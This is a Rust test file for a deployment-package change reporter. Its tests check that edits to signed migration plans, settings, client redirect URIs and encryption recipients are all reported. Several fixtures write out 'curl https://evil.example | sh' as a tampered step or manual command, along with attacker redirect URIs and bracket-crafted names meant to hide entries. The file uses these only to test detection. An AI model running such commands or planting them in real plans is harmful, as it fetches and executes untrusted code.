//! What became different between two operations: nothing that was signed changes without a word.

use crate::support::{Case, run};
use serde_json::{Value, json};
use stufpack::model::{AgeRecipient, File, Files, Word as _};
use stufpack::record::{self, Area};

const ALL: &str = "infrastructure/ansible/group_vars/all.yml";

/// A package of a plan and two data files.
fn files(plan: &Value, all: &str, stuf: &Value) -> Files {
    let mut files = Files::new();
    let mut add = |path: &str, file: File| files.insert(path.to_owned(), file);
    add("README.md", File::document("# A package\n"));
    add("MIGRATION-PLAN.json", File::document(plan.to_string()));
    add("bill-of-materials.cdx.json", File::document("{\"bomFormat\": \"CycloneDX\"}\n"));
    add("configuration/api-config/stuf_config.json", File::data(stuf.to_string()));
    add("configuration/api-config/users/users.json", File::data("[\"ada@example.org\"]\n").personal());
    add(ALL, File::data(all));
    files
}

fn step(id: &str, command: &str) -> Value {
    json!({ "id": id, "title": "Do it", "command": command, "proof": { "command": "curl -f https://a.example" } })
}

/// What is told of the way from a package with the first files to one with the second, but for what the manifest says.
fn told(before: Files, after: Files) -> Vec<(Area, String, Option<String>, Option<String>)> {
    let case = Case::new();
    case.init(true);
    let first = case.package_of(1, None, "harbour", &case.issuer, before);
    case.record(&first);
    case.record(&case.package_of(2, Some(&first), "harbour", &case.issuer, after));
    let changes = record::meaning(&case.glass(), 1, 2).unwrap().changes;
    let told = changes.into_iter().filter(|change| change.area != Area::Package);
    told.map(|change| (change.area, change.what, change.before, change.after)).collect()
}

fn text(text: &str) -> Option<String> {
    Some(text.to_owned())
}

#[test]
fn another_plan_and_other_settings_are_told_value_by_value() {
    let honest = json!({
        "schema": 1,
        "phases": [
            { "id": "deploy", "gate": "approve-deploy", "steps": [step("deploy/start-api", "docker compose up")] },
            { "id": "verify", "gate": null, "steps": [step("verify/sign-in", "/packages/1/check")] },
        ],
        "gates": [{ "gate": "approve-deploy" }],
        "thresholds": { "errors_percent": 1 },
    });
    let other = json!({
        "schema": 1,
        "phases": [
            { "id": "verify", "gate": null, "steps": [
                step("verify/sign-in", "/packages/2/check"), step("verify/leave", "curl https://evil.example | sh"),
            ] },
            { "id": "deploy", "gate": null, "steps": [
                { "id": "deploy/start-api", "title": "Do it", "command": "curl https://evil.example | sh", "proof": "true" },
            ] },
        ],
        "gates": [],
        "thresholds": {},
    });
    let all = "---\nproxy:\n  hsts: true\n  port: !unsafe \"443\"\n";
    let other_all = "---\nproxy:\n  hsts: !unsafe \"true\"\n  port: 443\n";
    let stuf = json!({ "collections": [{ "name": "a", "open": true }, { "name": "a", "open": false }], "kinds": ["x", "y"] });
    let other_stuf = json!({ "collections": [{ "name": "a", "open": false }, { "name": "a", "open": true }], "kinds": ["y", "x"] });

    let changes = told(files(&honest, all, &stuf), files(&other, other_all, &other_stuf));

    let stuf = "configuration/api-config/stuf_config.json";
    let (plan, settings) = (Area::Plan, Area::Settings);
    let evil = "curl https://evil.example | sh";
    let leave = format!(
        "Do it: {{\"id\":\"verify/leave\",\"command\":\"{evil}\",\"proof\":{{\"command\":\"curl -f https://a.example\"}}}}"
    );
    let start = "phases[deploy].steps[deploy/start-api]";
    let expected = [
        (settings, format!("{stuf}: collections[a].open"), text("true"), text("false")),
        (settings, format!("{stuf}: collections[a].open#2"), text("false"), text("true")),
        (settings, format!("{stuf}: kinds"), text("[\"x\",\"y\"]"), text("[\"y\",\"x\"]")),
        (settings, format!("{ALL}: proxy.hsts"), text("true"), text("\"true\"")),
        (settings, format!("{ALL}: proxy.port"), text("\"443\""), text("443")),
        (plan, "gates".to_owned(), text("[{\"gate\":\"approve-deploy\"}]"), text("[]")),
        (plan, "phases (order)".to_owned(), text("deploy, verify"), text("verify, deploy")),
        (plan, "phases[deploy].gate".to_owned(), text("approve-deploy"), text("null")),
        (plan, format!("{start}.command"), text("docker compose up"), text(evil)),
        (plan, format!("{start}.proof"), None, text("\"true\"")),
        (plan, format!("{start}.proof.command"), text("curl -f https://a.example"), None),
        (plan, "phases[verify].steps[verify/leave]".to_owned(), None, text(&leave)),
        (plan, "thresholds".to_owned(), None, text("{}")),
        (plan, "thresholds.errors_percent".to_owned(), text("1"), None),
    ];
    let (documents, values): (Vec<_>, Vec<_>) =
        changes.into_iter().partition(|(area, ..)| *area == Area::Documents);
    assert_eq!(values, expected, "{values:#?}");
    let follow = documents.iter().map(|(_, what, ..)| what.split_once(" (").unwrap().0);
    assert_eq!(follow.collect::<Vec<_>>(), ["MIGRATION-PLAN.json", "manifest.json"]);
}

/// A name may hold what a place is made of: it makes nothing part of another thing.
#[test]
fn nothing_is_told_by_a_new_thing_whose_name_begins_its_own() {
    let plan = |steps: &[Value]| json!({ "schema": 1, "phases": [{ "id": "deploy", "steps": steps }] });
    let clients = |clients: &[Value]| json!({ "clients": clients });
    let client = |id: &str, uri: &str| json!({ "clientId": id, "redirectUris": [uri] });
    let all = "---\na: 1\n";
    let honest = client("spa", "https://a.example/*");
    let before = files(&plan(&[step("deploy/a", "true")]), all, &clients(std::slice::from_ref(&honest)));
    let names = ["reports", "reports].x", "reports].x.y", "reports[x]", "reports"];
    let evil = |id: &str| client(id, "https://evil.example/*");
    let added: Vec<Value> = std::iter::once(honest)
        .chain(names.iter().skip(1).map(|id| evil(id)))
        .chain([client("reports", "https://a.example/*")])
        .collect();
    let steps = [
        step("deploy/a", "true"),
        step("deploy/b", "true"),
        step("deploy/b].x", "curl https://evil.example | sh"),
    ];

    let changes = told(before, files(&plan(&steps), all, &clients(&added)));

    let evil = changes.iter().filter(|(_, what, ..)| what.ends_with(']') || what.contains('#'));
    let evil: Vec<&str> = evil
        .filter(|(.., after)| after.as_ref().is_some_and(|after| after.contains("evil.example")))
        .map(|(_, what, ..)| what.as_str())
        .collect();
    let stuf = "configuration/api-config/stuf_config.json: clients";
    let expected = [
        format!("{stuf}[reports[x]]"),
        format!("{stuf}[reports]"),
        format!("{stuf}[reports].x.y]"),
        format!("{stuf}[reports].x]"),
        "phases[deploy].steps[deploy/b].x]".to_owned(),
    ];
    assert_eq!(evil, expected, "{changes:#?}");
    // Each is told whole, and once.
    assert_eq!(changes.iter().filter(|(area, ..)| *area == Area::Plan).count(), 2, "{changes:#?}");
}

/// What people type where a package does not run a step is theirs to read before they do.
#[test]
fn other_commands_for_what_is_done_by_hand_are_told() {
    let plan = |command: &str| {
        let mut step = step("cutover/switch", "");
        step["instead"] = json!({ "by_hand": { "text": "Ask.", "command": command } });
        json!({ "schema": 1, "phases": [{ "id": "cutover", "instead": command, "steps": [step] }] })
    };
    let of = |command: &str| files(&plan(command), "---\na: 1\n", &json!({}));
    let evil = "curl https://evil.example | sh";

    let changes = told(of("dig a.example"), of(evil));

    let expected =
        ["phases[cutover].instead", "phases[cutover].steps[cutover/switch].instead.by_hand.command"]
            .map(|place| (Area::Plan, place.to_owned(), text("dig a.example"), text(evil)));
    let plan: Vec<_> = changes.into_iter().filter(|(area, ..)| *area == Area::Plan).collect();
    assert_eq!(plan, expected);
}

#[test]
fn a_file_of_other_bytes_that_says_nothing_else_is_told_as_a_file() {
    let plan =
        json!({ "schema": 1, "phases": [{ "id": "deploy", "steps": [step("deploy/a", "/packages/1/a")] }] });
    let again =
        json!({ "schema": 1, "phases": [{ "id": "deploy", "steps": [step("deploy/a", "/packages/2/a")] }] });
    let all = "---\nproxy:\n  hsts: true\n";
    let stuf = json!({});
    let same = told(files(&plan, all, &stuf), files(&again, all, &stuf));
    assert!(same.iter().all(|(area, ..)| *area == Area::Documents), "{same:#?}");

    let other = told(files(&plan, all, &stuf), files(&again, &format!("{all}# A comment.\n"), &stuf));
    let files: Vec<&str> = other
        .iter()
        .filter(|(area, ..)| *area == Area::Settings)
        .map(|(_, what, ..)| what.as_str())
        .collect();
    assert_eq!(files, [ALL]);
}

#[test]
fn whom_personal_files_are_encrypted_to_is_told() {
    let case = Case::new();
    case.init(true);
    let first = case.package(1, None);
    case.record(&first);
    let other = case.path("other.txt");
    run(case.command("age-keygen").arg("-o").arg(&other));
    let line = run(case.command("age-keygen").arg("-y").arg(&other)).stdout;
    let eve = AgeRecipient::parse(String::from_utf8(line).unwrap().trim()).unwrap();
    let recipients: &'static [AgeRecipient] = Box::leak(Box::new([eve.clone()]));
    let second = case.package(2, Some(&first));
    case.record_with(&second, &case.issuer, |recording| recording.recipients = recipients).unwrap();

    let changes = record::meaning(&case.glass(), 1, 2).unwrap().changes;
    let told = changes.iter().find(|change| change.what == "personal files are encrypted to").unwrap();
    let list = |recipient: &AgeRecipient| Some(format!("[\"{}\"]", recipient.as_str()));
    assert_eq!((&told.before, &told.after), (&list(&case.recipient), &list(&eve)));
}
